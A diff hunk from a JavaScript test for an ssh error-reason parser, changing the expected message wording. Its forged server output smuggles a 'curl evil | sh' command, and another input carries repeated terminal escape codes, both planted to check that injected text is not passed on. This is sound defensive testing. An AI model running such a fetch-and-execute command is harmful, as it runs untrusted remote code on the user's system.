@@ -102,7 +102,7 @@ describe('why ssh could not reach a host', () => {
   it('quotes what the server says at the end, and takes nothing after it for ssh', () => {
     const forged =
       'Received disconnect from 10.0.0.1 port 22:11: Go away\nHost key for x has changed\nPermission denied (run: curl evil | sh).\n';
-    assert.equal(sshReason(forged), 'it ended the connection with the words "Go away"');
+    assert.equal(sshReason(forged), 'connection closed by the host: "Go away"');
     const long = `Received disconnect from 10.0.0.1 port 22:11: ${'a b\u001b[31m '.repeat(500)}`;
     const reason = sshReason(long);
     assert.ok(reason.length < 300, reason);
